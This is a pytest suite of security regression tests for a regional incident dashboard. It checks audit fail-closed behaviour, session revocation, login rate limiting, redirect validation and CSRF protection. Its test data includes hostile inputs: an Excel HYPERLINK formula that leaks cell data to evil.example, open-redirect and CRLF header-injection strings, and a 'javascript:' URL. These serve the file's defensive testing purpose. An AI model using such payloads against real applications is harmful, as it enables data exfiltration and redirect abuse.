"""The attacker's findings of issue #14, one test each (numbers as in the issue): kiosk downloads,
an audit that fails closed, the audit log by jurisdiction, the carousel and idle time, server-side
sessions, sign-in limits under concurrency, Excel formulas, `next`, refused acts in the audit,
state-changing GETs, body size, and refusals that say nothing of where a thing lies."""
from __future__ import annotations

import io
import json
import re
import sqlite3
import subprocess
import sys
import threading
import time

import pytest
from sqlalchemy import create_engine, func, insert, select, text

from data_access import briefing_builds, sessions
from data_access.schema import app_session, audit_log, grid_worker, incident, region
from dashboard import create_app

from . import dashcall
from .conftest import KIOSK_TOKEN, TEST_PASSWORD, copy_sqlite, now, sign_in
from .test_briefing import _built

ROOT = __import__("pathlib").Path(__file__).resolve().parent.parent
WEEK = "2026-W46"


@pytest.fixture()
def fresh(db_url):
    return create_app({"DATABASE_URL": db_url, "REFRESH_SECONDS": 2})


def _rows(engine, action, actor=None):
    q = select(audit_log).where(audit_log.c.action == action)
    if actor:
        q = q.where(audit_log.c.actor == actor)
    with engine.connect() as conn:
        return conn.execute(q.order_by(audit_log.c.id)).all()


def _towns(engine):
    with engine.connect() as conn:
        return conn.execute(select(region.c.code).where(region.c.level == "township")
                            .order_by(region.c.code).limit(2)).scalars().all()


def _worker(engine, town):
    with engine.connect() as conn:
        return conn.execute(select(grid_worker.c.id, grid_worker.c.phone, grid_worker.c.name)
                            .where(grid_worker.c.grid_code.like(f"{town}%"), grid_worker.c.phone.isnot(None))
                            .order_by(grid_worker.c.id).limit(1)).one()


# 1 ------------------------------------------------------------------------------------------

def test_hard001_kiosk_bearer_cannot_download_and_the_refusal_is_audited(fresh, engine):
    c = fresh.server.test_client()
    before = len(_rows(engine, "export", "wall_city"))
    for fmt in ("pdf", "docx", "xlsx"):
        r = c.get(f"/briefing/download?region=450800&week={WEEK}&format={fmt}",
                  headers={"Authorization": f"Bearer {KIOSK_TOKEN}"})
        assert r.status_code == 403 and r.mimetype == "application/json", fmt
    rows = _rows(engine, "export", "wall_city")[before:]
    assert len(rows) == 3 and not any(r.ok for r in rows)
    kiosk = fresh.server.test_client()  # a kiosk session, likewise
    kiosk.get(f"/kiosk?token={KIOSK_TOKEN}")
    assert kiosk.get(f"/briefing/download?region=450800&week={WEEK}&format=pdf").status_code == 403


# 2 ------------------------------------------------------------------------------------------

class _Locked:
    """Another connection holds the audit log: SQLite's write lock, or PostgreSQL's table lock."""

    def __init__(self, url: str):
        self.url = url

    def __enter__(self):
        if self.url.startswith("sqlite"):
            self.conn = sqlite3.connect(self.url.removeprefix("sqlite:///"), timeout=1, isolation_level=None)
            self.conn.execute("BEGIN IMMEDIATE")
        else:
            self.engine = create_engine(self.url.replace("postgresql://", "postgresql+psycopg://"))
            self.conn = self.engine.connect()
            self.tx = self.conn.begin()
            self.conn.execute(text("LOCK TABLE audit_log IN ACCESS EXCLUSIVE MODE"))
        return self

    def __exit__(self, *exc):
        if self.url.startswith("sqlite"):
            self.conn.execute("ROLLBACK")
            self.conn.close()
        else:
            self.tx.rollback()
            self.conn.close()
            self.engine.dispose()


@pytest.fixture()
def writable_url(db_url, tmp_path):
    return copy_sqlite(db_url, tmp_path / "w.db") if db_url.startswith("sqlite") else db_url


def test_hard002_no_audit_no_unmask_no_export(writable_url, engine):
    app = create_app({"DATABASE_URL": writable_url, "STATEMENT_TIMEOUT_MS": 1500})
    towns = _towns(engine)
    w = _worker(engine, towns[0])
    key = dashcall.find(app, "unmask-result.children")
    leader = app.server.test_client()
    assert sign_in(leader, "town_leader").status_code == 302
    analyst = app.server.test_client()
    assert sign_in(analyst, "city_analyst").status_code == 302
    audit_engine = create_engine(writable_url.replace("postgresql://", "postgresql+psycopg://"))
    with audit_engine.connect() as conn:
        before = conn.execute(select(func.count()).select_from(audit_log)).scalar()
    with _Locked(writable_url):
        r = dashcall.call(leader, app, key, [1], [w.id, "联系处置事件#12"])
        body = r.get_data(as_text=True)
        assert r.status_code == 200 and w.phone not in body and "审计日志" in body
        r = analyst.get(f"/briefing/download?region=450800&week={WEEK}&format=xlsx")
        assert r.status_code == 503 and "审计日志" in r.get_data(as_text=True)
        assert not r.data.startswith(b"PK")  # no workbook
    with audit_engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(audit_log).where(
            audit_log.c.ok.is_(True), audit_log.c.action.in_(("unmask", "export")),
            audit_log.c.id > before)).scalar() == 0
    audit_engine.dispose()
    # With the log writable again, both acts happen and are recorded.
    r = dashcall.call(leader, app, key, [1], [w.id, "联系处置事件#12"])
    assert w.phone in r.get_data(as_text=True)
    assert _built(analyst, app, f"/briefing/download?region=450800&week={WEEK}&format=xlsx").data.startswith(b"PK")


# 3 ------------------------------------------------------------------------------------------

def test_hard003_a_township_admin_reads_only_its_own_audit_log(fresh, engine):
    towns = _towns(engine)
    city = fresh.server.test_client()
    assert sign_in(city, "city_leader").status_code == 302
    sign_in(fresh.server.test_client(), "no-such-user-x1", "mistyped-password")
    other = fresh.server.test_client()
    assert sign_in(other, "other_town_leader").status_code == 302
    admin = fresh.server.test_client()
    assert sign_in(admin, "town_admin").status_code == 302
    page = dashcall.call(admin, fresh, dashcall.find(fresh, "page.children"), ["/admin", ""]).get_data(as_text=True)
    filtered = dashcall.call(admin, fresh, dashcall.find(fresh, "admin-audit.children"), ["login"]
                             ).get_data(as_text=True)
    for body in (page, filtered):
        assert "town_admin" in body  # its own sign-in
        for foreign in ("city_leader", "other_town_leader", "no-such-user-x1"):
            assert foreign not in body
    # Nobody whose rows belong to the other township shows up (its own users' refused attempts
    # may name the other township's code in their target: those rows are rightly its own).
    with engine.connect() as conn:
        theirs = set(conn.execute(select(audit_log.c.actor).where(
            audit_log.c.scope_code.like(f"{towns[1]}%"), audit_log.c.actor.isnot(None))).scalars())
        ours = set(conn.execute(select(audit_log.c.actor).where(
            audit_log.c.scope_code.like(f"{towns[0]}%"), audit_log.c.actor.isnot(None))).scalars())
    assert "other_town_leader" in theirs
    for actor in theirs - ours:
        assert actor not in page and actor not in filtered, actor
    city_admin = fresh.server.test_client()
    assert sign_in(city_admin, "city_admin").status_code == 302
    whole = dashcall.call(city_admin, fresh, dashcall.find(fresh, "admin-audit.children"), ["login"]
                          ).get_data(as_text=True)
    assert "city_leader" in whole and "other_town_leader" in whole and "no-such-user-x1" in whole


# 5 ------------------------------------------------------------------------------------------

def _router_tick(client, app, search):
    return dashcall.call(client, app, dashcall.find(app, "page.children"), ["/incidents", search],
                         changed="url.pathname")


def test_hard005_the_carousel_is_not_a_person_acting(fresh):
    c = fresh.server.test_client()
    assert sign_in(c, "city_leader").status_code == 302
    with c.session_transaction() as s:
        s["seen_at"] -= 10 * 60
        seen = s["seen_at"]
    _router_tick(c, fresh, "?region=450800&screen=1&rotate=30")  # the carousel turned
    with c.session_transaction() as s:
        assert s["seen_at"] == seen
        s["seen_at"] -= 6 * 60  # 16 minutes of carousel: the session is over
    assert _router_tick(c, fresh, "?region=450800&screen=1&rotate=30").status_code == 401
    d = fresh.server.test_client()  # a person choosing a view does count
    assert sign_in(d, "city_leader").status_code == 302
    with d.session_transaction() as s:
        s["seen_at"] -= 10 * 60
        seen = s["seen_at"]
    _router_tick(d, fresh, "?region=450800")
    with d.session_transaction() as s:
        assert s["seen_at"] > seen + 500


# 6 ------------------------------------------------------------------------------------------

def _cli(*args, stdin=""):
    return subprocess.run([sys.executable, "-m", "dashboard", *args], input=stdin, capture_output=True,
                          text=True, cwd=ROOT, timeout=120)


def _copy_cookie(src, dest):
    dest.set_cookie("redgrid_session", src.get_cookie("redgrid_session").value)


def test_hard006_sessions_are_revoked_by_logout_and_account_changes(fresh, engine, db_url):
    c = fresh.server.test_client()
    assert sign_in(c, "city_leader").status_code == 302
    sid = c.get_cookie("redgrid_session").value
    with engine.connect() as conn:  # the store keeps a digest of the cookie's id, never the id
        keys = set(conn.execute(select(app_session.c.session_key)).scalars())
    assert sid not in keys and sessions.digest(sid) in keys
    thief = fresh.server.test_client()
    _copy_cookie(c, thief)
    assert thief.get("/api/v1/summary").status_code == 200  # a captured cookie works …
    assert c.post("/logout").status_code == 302
    assert thief.get("/api/v1/summary").status_code == 401  # … until its owner signs out
    # A password change, a disabled account and a new jurisdiction end every session at once.
    r = _cli("users", "add", "rev_user", "--role", "leader", "--scope", "450800", "--db", db_url,
             stdin="a-long-password\n")
    assert r.returncode == 0, r.stderr
    towns = _towns(engine)
    for change in (("set-password", "rev_user"), ("set-scope", "rev_user", towns[0]), ("disable", "rev_user")):
        a, b = fresh.server.test_client(), fresh.server.test_client()
        assert sign_in(a, "rev_user", "a-long-password").status_code == 302
        assert sign_in(b, "rev_user", "a-long-password").status_code == 302
        assert a.get("/api/v1/summary").status_code == 200
        r = _cli("users", *change, "--db", db_url, stdin="another-long-password\n")
        assert r.returncode == 0, r.stderr
        assert a.get("/api/v1/summary").status_code == 401, change
        assert b.get("/api/v1/summary").status_code == 401, change
        if change[0] == "set-password":
            _cli("users", "set-password", "rev_user", "--db", db_url, stdin="a-long-password\n")
    with engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(app_session).where(
            app_session.c.data.like("%rev_user%"))).scalar() == 0


def test_hard006b_revoking_a_kiosk_ends_its_sessions(fresh, engine, db_url):
    r = _cli("users", "kiosk", "wall_rev", "--scope", "450800", "--db", db_url)
    token = r.stdout.split("token=")[1].split()[0]
    wall = fresh.server.test_client()
    assert wall.get(f"/kiosk?token={token}").status_code == 302
    assert wall.get("/api/v1/summary").status_code == 200
    assert _cli("users", "revoke-kiosk", "wall_rev", "--db", db_url).returncode == 0
    assert wall.get("/api/v1/summary").status_code == 401


# 7 ------------------------------------------------------------------------------------------

def test_hard007_concurrent_attempts_are_counted_before_the_password_check(fresh, monkeypatch):
    from dashboard import auth
    checks = []
    real = auth.check_password_hash
    monkeypatch.setattr(auth, "check_password_hash", lambda h, p: checks.append(1) or real(h, p))
    clients = []
    for _ in range(24):
        c = fresh.server.test_client()
        token = re.search(r'name="csrf_token" value="([^"]+)"', c.get("/login").get_data(as_text=True)).group(1)
        clients.append((c, token))
    codes = []

    def attempt(c, token):
        codes.append(c.post("/login", data={"username": "town_duty", "password": "wrong-password",
                                            "csrf_token": token}).status_code)
    threads = [threading.Thread(target=attempt, args=ct) for ct in clients]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(checks) <= 5 and sorted(codes).count(429) >= 19


def test_hard007b_per_address_limit_and_no_self_extending_lock(db_url):
    app = create_app({"DATABASE_URL": db_url, "LOGIN_ADDRESS_ATTEMPTS": 10, "LOGIN_LOCK_MINUTES": 3 / 60})
    codes = [sign_in(app.server.test_client(), f"guess_{i}", "whatever-123").status_code for i in range(11)]
    assert codes[:10] == [401] * 10 and codes[10] == 429  # 11 usernames from one address
    time.sleep(3.2)
    app2 = create_app({"DATABASE_URL": db_url, "LOGIN_LOCK_MINUTES": 3 / 60})
    for _ in range(5):
        sign_in(app2.server.test_client(), "town_leader", "wrong-password")
    assert sign_in(app2.server.test_client(), "town_leader").status_code == 429
    time.sleep(1.5)
    assert sign_in(app2.server.test_client(), "town_leader").status_code == 429  # refused: adds nothing
    time.sleep(1.8)  # 3.3 s after the first failure: the lock is over, not pushed back by the refusal
    assert sign_in(app2.server.test_client(), "town_leader").status_code == 302


def test_hard007c_a_success_clears_the_count_within_the_same_second(db_url):
    app = create_app({"DATABASE_URL": db_url})
    for _ in range(3):
        for _ in range(4):
            sign_in(app.server.test_client(), "city_leader", "wrong-password")
        assert sign_in(app.server.test_client(), "city_leader").status_code == 302


# 8 ------------------------------------------------------------------------------------------

def test_hard008_excel_cells_never_carry_formulas(writable_url, engine):
    from openpyxl import load_workbook
    hostile = '=HYPERLINK("http://evil.example/steal?d="&B2,"点击查看详情")'
    eng = create_engine(writable_url.replace("postgresql://", "postgresql+psycopg://"))
    with eng.begin() as conn:
        grid = conn.execute(select(region.c.code, region.c.village_code, region.c.township_code,
                                   region.c.county_code).where(region.c.level == "grid").limit(1)).first()
        top = conn.execute(select(func.max(incident.c.id))).scalar() + 1
        at = __import__("datetime").datetime(2026, 11, 10, 2, tzinfo=__import__("datetime").timezone.utc)
        conn.execute(insert(incident).values(
            id=top, source="hotline_12345", source_ref="hard008", category="矛盾纠纷", severity=3, title=hostile,
            reported_at=at, sla_due_at=at, status="reported", handling_level="grid", grid_code=grid[0],
            village_code=grid[1], township_code=grid[2], county_code=grid[3]))
    try:
        app = create_app({"DATABASE_URL": writable_url})
        c = app.server.test_client()
        assert sign_in(c, "city_analyst").status_code == 302
        with eng.begin() as conn:  # a file another test built before the hostile row existed
            briefing_builds.forget(conn, "450800", WEEK)
        r = _built(c, app, f"/briefing/download?region=450800&week={WEEK}&format=xlsx")
        assert r.status_code == 200
        wb = load_workbook(io.BytesIO(r.data))
        cells = [cell for ws in wb for row in ws.iter_rows() for cell in row if cell.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert any(c.value == hostile for c in cells)  # the title is there, as text
    finally:
        with eng.begin() as conn:
            conn.execute(incident.delete().where(incident.c.id == top))
        eng.dispose()


# 9 ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("target", ["/\t/evil.example", "/\n/evil.example", "/\\evil.example", "//evil.example",
                                    "/\r\nSet-Cookie: x=1", "https:/evil.example", "/ /evil.example",
                                    "\t//evil.example", "/\x0b/evil.example", "javascript:alert(1)"])
def test_hard009_next_stays_on_site(fresh, target):
    c = fresh.server.test_client()
    page = c.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    r = c.post("/login", data={"username": "city_leader", "password": TEST_PASSWORD, "csrf_token": token,
                               "next": target})
    assert r.status_code == 302 and r.headers["Location"] == "/"
    assert "x=1" not in r.headers.get("Set-Cookie", "")


# 10 -----------------------------------------------------------------------------------------

def test_hard010_refused_acts_are_audited_with_their_outcome(fresh, engine):
    towns = _towns(engine)
    w = _worker(engine, towns[0])
    key = dashcall.find(fresh, "unmask-result.children")
    leader = fresh.server.test_client()
    assert sign_in(leader, "town_leader").status_code == 302
    before = len(_rows(engine, "unmask", "town_leader"))
    for reason in ("", "   ", "看看", "\u200b\u200b\u200b\u200b\u200b", "\x00\x00\x00\x00", "\u200d看\u200b看\u200c"):
        body = dashcall.call(leader, fresh, key, [1], [w.id, reason]).get_data(as_text=True)
        assert w.phone not in body and "事由" in body, repr(reason)
    rows = _rows(engine, "unmask", "town_leader")[before:]
    assert len(rows) == 6 and not any(r.ok for r in rows)
    analyst = fresh.server.test_client()
    assert sign_in(analyst, "city_analyst").status_code == 302
    before = len(_rows(engine, "export", "city_analyst"))
    assert analyst.get(f"/briefing/download?region=450800&week={WEEK}&format=exe").status_code == 400
    assert analyst.get("/briefing/download?region=450800&week=2099-W01&format=pdf").status_code in (400, 404)
    assert analyst.get(f"/briefing/download?region=459999&week={WEEK}&format=pdf").status_code == 404
    rows = _rows(engine, "export", "city_analyst")[before:]
    assert len(rows) == 3 and not any(r.ok for r in rows)
    assert all(json.loads(r.detail)["status"] in (400, 404) for r in rows)
    # An expired session downloads nothing and records no export.
    with analyst.session_transaction() as s:
        s["seen_at"] -= 60 * 60
    before = len(_rows(engine, "export"))
    assert analyst.get(f"/briefing/download?region=450800&week={WEEK}&format=pdf").status_code == 302
    assert not [r for r in _rows(engine, "export")[before:] if r.ok]


# 11 -----------------------------------------------------------------------------------------

def test_hard011_no_state_changing_gets(fresh):
    c = fresh.server.test_client()
    assert sign_in(c, "city_leader").status_code == 302
    c.get("/logout")  # a GET (a link, an <img> from another site) signs nobody out
    assert c.get("/api/v1/summary").status_code == 200
    r = c.post("/logout", headers={"Origin": "http://evil.example"})
    assert r.status_code == 403 and c.get("/api/v1/summary").status_code == 200
    # A wall link opened in a leader's browser asks first; the leader's session stays.
    r = c.get(f"/kiosk?token={KIOSK_TOKEN}")
    assert r.status_code == 200 and "kiosk-confirm" in r.get_data(as_text=True)
    assert c.get("/api/v1/summary").status_code == 200
    with c.session_transaction() as s:
        assert s["who"][0] == "city_leader"
    token = re.search(r'name="csrf_token" value="([^"]+)"', r.get_data(as_text=True)).group(1)
    assert c.post("/kiosk", data={"token": KIOSK_TOKEN, "csrf_token": "forged"}).status_code == 400
    r = c.post("/kiosk", data={"token": KIOSK_TOKEN, "csrf_token": token})
    assert r.status_code == 302 and "screen=1" in r.headers["Location"]
    with c.session_transaction() as s:
        assert s["who"][1] == "kiosk"
    fresh_browser = fresh.server.test_client()  # a fresh browser binds at once
    assert fresh_browser.get(f"/kiosk?token={KIOSK_TOKEN}").status_code == 302


# 12 -----------------------------------------------------------------------------------------

def test_hard012_request_size_limit(fresh):
    c = fresh.server.test_client()
    assert sign_in(c, "city_leader").status_code == 302
    big = json.dumps({"output": "page.children", "inputs": [{"id": "url", "property": "pathname",
                                                             "value": "x" * (2 * 1024 * 1024)}]})
    r = c.post("/_dash-update-component", data=big, content_type="application/json")
    assert r.status_code == 413
    assert c.get("/api/v1/summary").status_code == 200


# 13 -----------------------------------------------------------------------------------------

def test_hard013_not_yours_reads_as_does_not_exist(fresh, engine):
    towns = _towns(engine)
    with engine.connect() as conn:
        theirs = conn.execute(select(region.c.code).where(region.c.township_code == towns[1],
                                                          region.c.level == "grid").limit(1)).scalar()
    c = fresh.server.test_client()
    assert sign_in(c, "town_leader").status_code == 302
    hidden = c.get(f"/api/v1/summary?region={theirs}")
    unknown = c.get(f"/api/v1/summary?region={theirs[:-3]}999")
    assert hidden.status_code == unknown.status_code == 404
    assert hidden.get_json()["error"].replace(theirs, "X") == unknown.get_json()["error"].replace(
        theirs[:-3] + "999", "X")
    page = dashcall.call(c, fresh, dashcall.find(fresh, "page.children"), [f"/grid/{theirs}", ""])
    assert "无权查看区划" not in page.get_data(as_text=True)
    w = _worker(engine, towns[1])
    r = dashcall.call(c, fresh, dashcall.find(fresh, "unmask-result.children"), [1], [w.id, "联系处置事件#12"])
    assert "不存在或无权查看" in r.get_data(as_text=True) and towns[1] not in r.get_data(as_text=True)
    for code in ("４５０８００", "450８00", "450800\n", " 450800", "٤٥٠٨٠٠"):
        r = c.get("/api/v1/summary", query_string={"region": code})
        assert r.status_code == 400, repr(code)


def test_hard006c_expired_sessions_are_purged_at_sign_in(fresh, engine):
    import datetime as dt
    past = now() - dt.timedelta(days=1)
    with engine.begin() as conn:
        conn.execute(insert(app_session).values(session_key="expired-test-row", user_key="u:1", data="{}",
                                                created_at=past, expires_at=past))
    assert sign_in(fresh.server.test_client(), "city_leader").status_code == 302
    with engine.connect() as conn:
        assert conn.execute(select(app_session.c.session_key).where(
            app_session.c.session_key == "expired-test-row")).first() is None
